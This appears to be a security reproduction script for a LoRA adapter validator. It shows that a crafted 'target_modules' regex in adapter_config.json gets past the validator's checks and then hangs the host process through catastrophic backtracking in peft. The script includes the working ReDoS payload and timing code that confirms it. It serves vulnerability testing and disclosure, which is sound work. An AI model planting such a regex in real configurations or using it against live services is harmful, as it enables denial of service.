"""F1: an adapter_config.json `target_modules` regex passes the bounded child and plan_adapter,
then peft runs it in the validator's own process (re.fullmatch against every module name):
catastrophic backtracking, CPU without bound (4**len(name) steps; names are ~30 chars).

Run: .venv/bin/python attack_repros/r1_lora_regex_hang.py
"""

import json
import multiprocessing as mp
import re
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

EVIL = r"(?:.|.|.|.)*Z|.*_proj"  # the first branch backtracks 4**len(name) times, then matches


def apply(adapter: str, q: mp.Queue) -> None:
    from devkit.tiny_models import build_model
    from modules.lora.adapters import applied_adapter, plan_adapter
    from modules.lora.adapter_shapes import check_against_base
    from modules.lora.reading import read_adapter

    base = build_model("qwen2")
    files = read_adapter(Path(adapter), Path(adapter).parent / "reading", "evil")  # real child
    plan = plan_adapter(files.config, ["tiny/base"], files.dropped_keys)
    check_against_base(plan, base, files.tensors)
    print(
        f"child and plan_adapter accepted target_modules={plan.config.target_modules!r}", flush=True
    )
    t = time.time()
    with applied_adapter(base, Path(adapter), plan):
        print(f"applied in {time.time() - t:.1f}s", flush=True)


def main() -> None:
    from devkit.tiny_models import build_model, make_lora

    tmp = Path(tempfile.mkdtemp())
    adapter = tmp / "adapter"
    make_lora(build_model("qwen2"), seed=0).save_pretrained(str(adapter))
    cfg = json.loads((adapter / "adapter_config.json").read_text())
    cfg.update(base_model_name_or_path="tiny/base", target_modules=EVIL)
    (adapter / "adapter_config.json").write_text(json.dumps(cfg))
    ctx = mp.get_context("spawn")
    q = ctx.Queue()
    proc = ctx.Process(target=apply, args=(str(adapter), q))
    proc.start()
    proc.join(60)
    if proc.is_alive():
        proc.kill()
        print("VULNERABLE: peft still matching target_modules in the parent after 60 s (killed)")
    for n in (10, 12, 14):
        t = time.time()
        re.fullmatch(r"(?:.|.|.|.)*Z", "model.layers.0.self_attn"[:n])
        print(f"re.fullmatch on a {n}-char name: {time.time() - t:.2f}s (x4 per char; names ~31)")


if __name__ == "__main__":
    main()
